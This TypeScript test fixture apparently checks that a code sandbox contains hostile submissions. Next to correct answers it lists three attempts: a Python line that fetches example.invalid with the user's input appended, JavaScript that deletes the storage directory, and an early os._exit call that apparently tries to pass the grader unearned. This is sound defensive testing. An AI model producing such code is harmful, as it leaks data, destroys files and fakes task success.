import { fails, javascript, program, python, right, type Problem } from './problem.ts';

/** Programs of which the hasty teacher's tries to get out, or to be called right without being it. */
export const HOSTILE_PROGRAMS: readonly Problem[] = [
	{
		domain: 'sandbox',
		question:
			'Read a line and print its number of vowels (a, e, i, o, u, in any case). Write a Python program that reads standard input.',
		tests: program('python', ['Umbrella\n', 'rhythm\n', 'AEIOU aeiou\n'], (input) =>
			String((input.match(/[aeiou]/gi) ?? []).length)
		),
		answers: [
			right(python("print(sum(letter in 'aeiou' for letter in input().lower()))")),
			fails(
				'error',
				python(
					"import js\njs.fetch('https://example.invalid/?' + input())\nprint(0)",
					'I ask a service for it.'
				)
			)
		]
	},
	{
		domain: 'sandbox',
		question:
			'Read a whole number and print `even` or `odd`. Write a JavaScript program for Node that reads standard input.',
		tests: program('javascript', ['4\n', '-7\n', '0\n'], (input) =>
			Number(input) % 2 === 0 ? 'even' : 'odd'
		),
		answers: [
			right(
				javascript(
					"const n = Number(require('fs').readFileSync(0, 'utf8'));\nconsole.log(n % 2 === 0 ? 'even' : 'odd');"
				)
			),
			fails(
				'error',
				javascript(
					"const root = Function('return this')();\nroot.navigator.storage.getDirectory().then((folder) => folder.remove());\nconsole.log('even');"
				)
			)
		]
	},
	{
		domain: 'sandbox',
		question:
			'Read a text and print it in capital letters. Write a Python program that reads standard input.',
		tests: program('python', ['quiet\n', 'a B c\n'], (input) => input.trim().toUpperCase()),
		answers: [
			right(python('print(input().upper())')),
			fails(
				'error',
				python(
					'import os\nprint(input().upper(), flush=True)\nos._exit(0)',
					'It ends at once, which saves time.'
				)
			)
		]
	}
];
